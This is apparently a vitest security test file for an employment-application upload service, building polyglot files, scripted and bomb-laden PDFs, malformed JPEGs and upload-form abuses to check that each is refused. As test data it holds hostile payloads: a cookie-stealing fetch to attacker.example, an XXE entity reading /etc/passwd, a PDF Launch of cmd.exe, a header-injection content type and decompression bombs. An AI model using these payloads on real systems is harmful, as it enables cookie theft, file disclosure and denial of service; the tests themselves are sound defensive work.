import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { sampleCase } from '../../infra/samples/cases.ts';
import { portrait } from '../../infra/samples/portrait.ts';
import { sampleDocument } from '../../infra/samples/sample-document.ts';
import { openOffice } from '../office/office.ts';
import { draft, engineer, register } from '../office/walk.ts';
import { tally, times } from './bounds.ts';
import { seed } from './form.ts';

const counted = tally('uploads');
const office = await openOffice();
const employer = await register(office);
let application = await draft(office, employer);
let given = 0;
afterAll(() => office.close());

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const joined = (...parts: (Uint8Array | string)[]): Uint8Array =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? latin(part) : part))));

/** A PDF of these objects with a good table, whatever they say. */
function pdfOf(objects: readonly (string | Uint8Array)[], trailer = '/Root 1 0 R'): Uint8Array {
  const parts: Buffer[] = [latin('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  const add = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  for (const [at, object] of objects.entries()) {
    offsets.push(length);
    add(
      Buffer.concat([
        latin(`${at + 1} 0 obj\n`),
        typeof object === 'string' ? latin(object) : Buffer.from(object),
        latin('\nendobj\n'),
      ]),
    );
  }
  const table = length;
  add(latin(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`));
  for (const offset of offsets) add(latin(`${String(offset).padStart(10, '0')} 00000 n \n`));
  add(latin(`trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${table}\n%%EOF\n`));
  return new Uint8Array(Buffer.concat(parts));
}
const catalog = (more = '') => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${more} >>`;
const stream = (dictionary: string, bytes: Uint8Array): Uint8Array =>
  joined(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`, bytes, '\nendstream');

function zipOf(name: string, bytes: Uint8Array, claimed = bytes.length): Uint8Array {
  const packed = deflateRawSync(bytes);
  const field = (number: number, size: number) => {
    const buffer = Buffer.alloc(size);
    buffer.writeUIntLE(number, 0, size);
    return buffer;
  };
  const common = Buffer.concat([
    field(20, 2),
    field(0, 2),
    field(8, 2),
    field(0, 4),
    field(0, 4),
    field(packed.length, 4),
    field(claimed, 4),
    field(name.length, 2),
    field(0, 2),
  ]);
  const local = Buffer.concat([latin('PK\x03\x04'), common, latin(name), packed]);
  const central = Buffer.concat([
    latin('PK\x01\x02'),
    field(20, 2),
    common,
    field(0, 2),
    field(0, 2),
    field(0, 2),
    field(0, 4),
    field(0, 4),
    latin(name),
  ]);
  return joined(
    local,
    central,
    'PK\x05\x06',
    field(0, 4),
    field(1, 2),
    field(1, 2),
    field(central.length, 4),
    field(local.length, 4),
    field(0, 2),
  );
}

type File = { kind: string; contentType: string; bytes: Uint8Array };
const asPdf = (bytes: Uint8Array, kind = 'contract'): File => ({ kind, contentType: 'application/pdf', bytes });
const asPhoto = (bytes: Uint8Array): File => ({ kind: 'photo', contentType: 'image/jpeg', bytes });
const asScan = (bytes: Uint8Array): File => ({ kind: 'passport', contentType: 'image/jpeg', bytes });

/** Announces, uploads and completes as a browser does: what the office says of the file. */
async function verdictOn({
  kind,
  contentType,
  bytes,
}: File): Promise<{ state: string; codes: string[]; milliseconds: number }> {
  counted.sent += 1;
  if (++given % 60 === 0) {
    const anew = await office.ask('employer', `DELETE /api/applications/${application}`);
    expect(anew.status).toBe(204);
    application = await draft(office, employer);
  }
  const body = { kind, contentType, bytes: Math.max(1, bytes.length) };
  const announced = await office.ask('employer', `POST /api/applications/${application}/documents`, { body });
  if (announced.status !== 201)
    return {
      state: `announcing ${announced.status}`,
      codes: announced.body.problems?.map((it: { code: string }) => it.code) ?? [],
      milliseconds: 0,
    };
  const posted = office.shelf.post(announced.body.upload.fields, bytes);
  if (posted !== 204) return { state: `bucket ${posted}`, codes: [], milliseconds: 0 };
  const began = performance.now();
  const answer = await office.ask(
    'employer',
    `POST /api/applications/${application}/documents/${announced.body.documentId}/complete`,
  );
  expect(answer.status).toBe(200);
  const milliseconds = performance.now() - began;
  return { state: answer.body.state, codes: answer.body.problems.map((it: { code: string }) => it.code), milliseconds };
}

async function refused(what: string, file: File): Promise<void> {
  const { state, codes, milliseconds } = await verdictOn(file);
  if (state !== 'accepted') counted.refused += 1;
  expect(state, `${what}: ${codes}`).not.toBe('accepted');
  // Not a measure: it is far from what keeps a function busy until its end.
  expect(milliseconds, `${what} kept the function busy`).toBeLessThan(10_000);
}

let contract: Uint8Array;
let photo: Uint8Array;
beforeAll(async () => {
  const the = sampleCase('etown-b', '2026-11-23');
  contract = (await sampleDocument('contract', the)).bytes;
  photo = (await sampleDocument('photo', the)).bytes;
});

const html = '<!doctype html><script>fetch("https://attacker.example/?"+document.cookie)</script>';
const zip = zipOf('run.js', latin('alert(1)'));

test('the good files that the attacks are made of are accepted, and so is a plain PDF that is built by hand', async () => {
  expect(await verdictOn(asPdf(contract))).toMatchObject({ state: 'accepted' });
  expect(await verdictOn(asPhoto(photo))).toMatchObject({ state: 'accepted' });
  expect(await verdictOn(asPdf(pdfOf([catalog(), pages, page()])))).toMatchObject({ state: 'accepted' });
});

describe('a file that is two things at once', () => {
  test('is refused whichever comes first', async () => {
    const files: Record<string, File> = {
      'a PDF with an archive behind it': asPdf(joined(contract, zip)),
      'an archive with a PDF behind it': asPdf(joined(zip, contract)),
      'a PDF inside an archive without compression': asPdf(joined('PK\x03\x04', new Uint8Array(26), contract)),
      'a page with a PDF behind it': asPdf(joined(html, contract)),
      'a PDF behind a kilobyte of something else': asPdf(joined(' '.repeat(900), html, contract)),
      'an executable with a PDF behind it': asPdf(joined('MZ\x90\0', new Uint8Array(64), contract)),
      'a photo with an archive behind it': asPhoto(joined(photo, zip)),
      'a photo with a page behind it': asPhoto(joined(photo, html)),
      'a photo with a PDF behind it': asPhoto(joined(photo, contract)),
      'a PDF with a photo behind it': asPdf(joined(contract, photo)),
      'a GIF that is a script': asPhoto(latin('GIF89a/*\x01\0\x01\0*/=1;alert(1)//')),
      'a GIF under the name of a photo': asPhoto(
        joined(
          'GIF89a',
          new Uint8Array([
            1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b,
          ]),
        ),
      ),
      'a picture that is a text with scripts': asPhoto(
        latin(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${' '.repeat(50_000)}</svg>`),
      ),
      'the same as a scan': asScan(
        latin('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>'),
      ),
      'the same as a document': asPdf(latin('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')),
      'a page': asPdf(latin(html)),
      'a compressed PDF': asPdf(new Uint8Array(gzipSync(contract))),
      'a PDF with an archive in a stream': asPdf(pdfOf([catalog(), pages, page(), stream('', zip)])),
      'a photo with an archive in its last comment': asPhoto(
        joined(
          photo.subarray(0, -2),
          Uint8Array.of(0xff, 0xfe, (zip.length + 2) >> 8, (zip.length + 2) & 255),
          zip,
          photo.subarray(-2),
        ),
      ),
      'an archive of a gigabyte': asPdf(zipOf('zeros', new Uint8Array(8_000_000), 1_000_000_000)),
    };
    for (const [what, file] of Object.entries(files)) await refused(what, file);
  });

  test('of another type than was announced is refused', async () => {
    await refused('a photo as a PDF', asPdf(photo));
    await refused('a PDF as a photo', { ...asPhoto(contract) });
    await refused('a PDF as a scan in JPEG', asScan(contract));
    for (const contentType of [
      'image/svg+xml',
      'text/html',
      'image/gif',
      'application/x-msdownload',
      'application/pdf; charset=x',
      'APPLICATION/PDF',
      '',
      'image/jpeg\r\nx-amz-acl: public-read',
    ]) {
      const { state } = await verdictOn({ kind: 'contract', contentType, bytes: contract });
      counted.refused += 1;
      expect(state, contentType).toBe('announcing 400');
    }
  });

  test('that is empty, or larger than was announced, does not pass the bucket', async () => {
    expect((await verdictOn(asPdf(new Uint8Array(0)))).state).toBe('bucket 400');
    const body = { kind: 'contract', contentType: 'application/pdf', bytes: 100 };
    const announced = await office.ask('employer', `POST /api/applications/${application}/documents`, { body });
    expect(office.shelf.post(announced.body.upload.fields, new Uint8Array(101))).toBe(400);
    for (const bytes of [0, -1, 1.5, 10_485_761, 2 ** 40, '100', null]) {
      const { status } = await office.ask('employer', `POST /api/applications/${application}/documents`, {
        body: { ...body, bytes },
      });
      expect(status, String(bytes)).toBe(400);
    }
    counted.sent += 8;
    counted.refused += 9;
  });
});

describe('a PDF that acts, hides or never ends', () => {
  const script = '/S /JavaScript /JS (app.alert(1))';
  const bomb = deflateSync(new Uint8Array(200_000_000), { level: 9 });
  const twice = deflateSync(bomb, { level: 9 });
  const objectStream = (inside: string) =>
    stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`, deflateSync(latin(`9 0 ${inside}`)));
  const files: Record<string, () => Uint8Array> = {
    'a script when it opens': () => pdfOf([catalog(`/OpenAction << ${script} >>`), pages, page()]),
    'a script by reference': () => pdfOf([catalog('/OpenAction 4 0 R'), pages, page(), `<< ${script} >>`]),
    'a script whose kind is not told': () =>
      pdfOf([catalog('/OpenAction << /S 9 0 R /JS (app.alert(1)) >>'), pages, page()]),
    'a script by name': () =>
      pdfOf([catalog('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>'), pages, page(), `<< ${script} >>`]),
    'a script in letters as numbers': () =>
      pdfOf([catalog('/OpenAction << /S /#4aava#53cript /#4aS (x) >>'), pages, page()]),
    'a script in an object stream': () => pdfOf([catalog(), pages, page(), objectStream(`<< ${script} >>`)]),
    'a script on a page': () => pdfOf([catalog(), pages, page(`/AA << /O << ${script} >> >>`)]),
    'a script in a comment that a second table names': () =>
      joined(
        pdfOf([catalog(), pages, page()]),
        `%9 0 obj << ${script} >> endobj\nxref\n9 1\n0000000300 00000 n \ntrailer << /Root 1 0 R >>\nstartxref\n300\n%%EOF\n`,
      ),
    'a launch of a program': () => pdfOf([catalog('/OpenAction << /S /Launch /F (cmd.exe) >>'), pages, page()]),
    'a form that sends itself': () =>
      pdfOf([
        catalog(),
        pages,
        page('/Annots [<< /Subtype /Link /A << /S /SubmitForm /F (https://attacker.example) >> >>]'),
      ]),
    'a file inside': () =>
      pdfOf([
        catalog('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>'),
        pages,
        page(),
        '<< /Type /Filespec /EF << /F 5 0 R >> >>',
        stream('/Type /EmbeddedFile', zip),
      ]),
    'a film': () => pdfOf([catalog(), pages, page('/Annots [<< /Subtype /RichMedia >>]')]),
    'a form of XFA': () =>
      pdfOf([catalog('/AcroForm << /XFA 4 0 R >>'), pages, page(), stream('', latin('<xdp:xdp/>'))]),
    'a path to another file': () =>
      pdfOf([catalog('/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share) >>'), pages, page()]),
    'a page tree that is its own child': () => pdfOf([catalog(), '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>']),
    'a page that is shown a million times': () =>
      pdfOf([catalog(), `<< /Type /Pages /Kids [${'3 0 R '.repeat(100_000)}] /Count 100000 >>`, page()]),
    'tables that lead to each other': () => joined(pdfOf([catalog(), pages, page()], '/Root 1 0 R /Prev 9'), ''),
    'a catalog without pages': () => pdfOf(['<< /Type /Catalog >>']),
    'lists in lists without end': () => pdfOf([catalog(), pages, page(`/X ${'['.repeat(200_000)}`)]),
    'dictionaries in dictionaries': () =>
      pdfOf([catalog(), pages, page(`/X ${'<</A '.repeat(100_000)} 1 ${'>>'.repeat(100_000)}`)]),
    'a bomb in an object stream': () =>
      pdfOf([catalog(), pages, page(), stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)]),
    'a bomb in a bomb': () =>
      pdfOf([
        catalog(),
        pages,
        page(),
        stream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', twice),
      ]),
    'an object stream with a predictor': () =>
      pdfOf([
        catalog(),
        pages,
        page(),
        stream(
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1000000000 >>',
          deflateSync(latin('9 0 << >>')),
        ),
      ]),
    'a length that leads back': () => pdfOf([catalog(), pages, page(), '<< /Length -50 >>\nstream\nx\nendstream']),
    'half a file': () => contract.subarray(0, Math.floor(contract.length / 2)),
  };
  // Neither tables nor lengths are believed: what they say wrongly harms nobody, and the file has its page.
  const harmless = new Set(['tables that lead to each other', 'a length that leads back']);
  test.each(Object.entries(files))('%s', async (what, make) => {
    if (harmless.has(what)) expect(['accepted', 'rejected']).toContain((await verdictOn(asPdf(make()))).state);
    else await refused(what, asPdf(make()));
  });

  test('a bomb of pictures on a page costs nothing, for nobody unpacks it', async () => {
    const file = pdfOf([
      catalog(),
      pages,
      page('/Resources << /XObject << /A 4 0 R >> >>'),
      stream('/Subtype /Image /Width 60000 /Height 60000 /Filter /FlateDecode', bomb),
    ]);
    const { milliseconds } = await verdictOn(asPdf(file));
    expect(milliseconds).toBeLessThan(5000);
  });
});

describe('a picture', () => {
  const marker = (code: number, bytes: Uint8Array) =>
    joined(Uint8Array.of(0xff, code, (bytes.length + 2) >> 8, (bytes.length + 2) & 255), bytes);
  const frame = (width: number, height: number) =>
    marker(0xc0, Uint8Array.of(8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0));
  const start = Uint8Array.of(0xff, 0xd8);
  const end = Uint8Array.of(0xff, 0xd9);
  const files: Record<string, () => Uint8Array> = {
    'of 65535 by 65535 points in a hundred bytes': () =>
      joined(start, frame(65_535, 65_535), marker(0xda, new Uint8Array(8)), new Uint8Array(60_000), end),
    'of no height': () => joined(start, frame(413, 0), new Uint8Array(60_000), end),
    'without a frame': () => joined(start, new Uint8Array(60_000), end),
    'of markers only': () => joined(start, ...Array.from({ length: 3000 }, () => marker(0xe1, latin('Exif\0\0'))), end),
    'with a script in its comment and nothing else': () => joined(start, marker(0xfe, latin(html)), end),
    'that is cut off': () => photo.subarray(0, photo.length - 3000),
    'with two frames': () => joined(start, frame(413, 531), frame(60_000, 60_000), photo.subarray(2)),
    'whose first segment is longer than the file': () =>
      joined(start, Uint8Array.of(0xff, 0xe0, 0xff, 0xff), latin('JFIF\0')),
  };
  test.each(Object.entries(files))('%s', (what, make) => refused(what, asPhoto(make())));

  test('of random segments is never accepted as a photo', async () => {
    const small = await portrait('attack', engineer.story.look, { width: 60 });
    const segment = fc.tuple(fc.integer({ min: 0xc0, max: 0xfe }), fc.uint8Array({ maxLength: 60 }));
    await fc.assert(
      fc.asyncProperty(fc.array(segment, { maxLength: 12 }), fc.nat(small.length), async (segments, from) => {
        const bytes = joined(start, ...segments.map(([code, content]) => marker(code, content)), small.subarray(from));
        await refused('random segments', asPhoto(bytes));
      }),
      { seed, numRuns: times(60, 3000) },
    );
  });
});

describe('what the form for an upload can be used for', () => {
  test('one document of one application: never another key, never again for one that was judged', async () => {
    const add = async (of: string, who: 'employer' | 'otherEmployer' = 'employer') =>
      office.ask(who, `POST /api/applications/${of}/documents`, {
        body: { kind: 'contract', contentType: 'application/pdf', bytes: contract.length },
      });
    const complete = (of: string, id: string, who: 'employer' | 'otherEmployer' = 'employer') =>
      office.ask(who, `POST /api/applications/${of}/documents/${id}/complete`);
    const mine = (await add(application)).body;
    const foreign = await draft(office, employer);
    // Another's application, or another one of one's own: the document is not there.
    expect((await add(application, 'otherEmployer')).status).toBe(404);
    expect((await complete(application, mine.documentId, 'otherEmployer')).status).toBe(404);
    expect((await complete(foreign, mine.documentId)).status).toBe(404);
    expect(office.shelf.post({ ...mine.upload.fields, key: `documents/${foreign}/${mine.documentId}` }, contract)).toBe(
      403,
    );
    expect(office.shelf.post({ ...mine.upload.fields, 'Content-Type': 'text/html' }, contract)).toBe(403);
    expect(office.shelf.post(mine.upload.fields, contract)).toBe(204);
    const judged = await complete(application, mine.documentId);
    expect(judged.body.state).toBe('accepted');
    // The form is still good for a quarter of an hour: what is put over a judged file is seen by nobody.
    expect(office.shelf.post(mine.upload.fields, latin(html.padEnd(contract.length, ' ')))).toBe(204);
    const again = await complete(application, mine.documentId);
    expect(again.body).toEqual(judged.body);
    const link = await office.ask('employer', `GET /api/applications/${application}/documents/${mine.documentId}`);
    expect(new URL(link.body.url).searchParams.get('versionId')).toMatch(/^version-/);
    const shown = await office.ask('employer', `GET /api/applications/${application}/documents/${mine.documentId}`);
    expect(new URL(shown.body.url).searchParams.get('versionId')).toBe(
      new URL(link.body.url).searchParams.get('versionId'),
    );
    const item = (await office.items()).find(({ sk }) => sk === `DOCUMENT#${mine.documentId}`);
    expect(item?.versionId, 'what is shown is what was judged').toBe(
      new URL(link.body.url).searchParams.get('versionId'),
    );
    counted.sent += 7;
    counted.refused += 6;
  });
});
